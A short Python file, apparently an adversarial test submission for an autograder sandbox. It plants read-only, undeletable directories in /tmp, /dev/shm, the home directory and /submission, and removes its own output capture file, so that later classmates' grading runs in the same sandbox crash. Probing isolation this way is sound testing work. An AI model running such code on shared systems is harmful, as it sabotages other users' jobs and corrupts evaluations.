"""Leave folders the cleanup cannot delete where the next worker writes (its output capture file
among them), so that every classmate graded after it by the same warm sandbox crashes."""

import os

for base in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/submission"):
    for name in (".captured-output", "matplotlib", "@MARKER@"):
        path = os.path.join(base, name)
        try:
            if os.path.isfile(path):
                os.unlink(path)  # this worker's own capture file: it keeps writing through its open fd
            os.makedirs(os.path.join(path, "inner"), exist_ok=True)
            with open(os.path.join(path, "inner", "file"), "w") as fh:
                fh.write("x")
            os.chmod(os.path.join(path, "inner"), 0o500)
            os.chmod(path, 0o500)
        except OSError:
            pass


def conv2d(image, filter_kernel, stride=1):
    raise RuntimeError("nothing here")
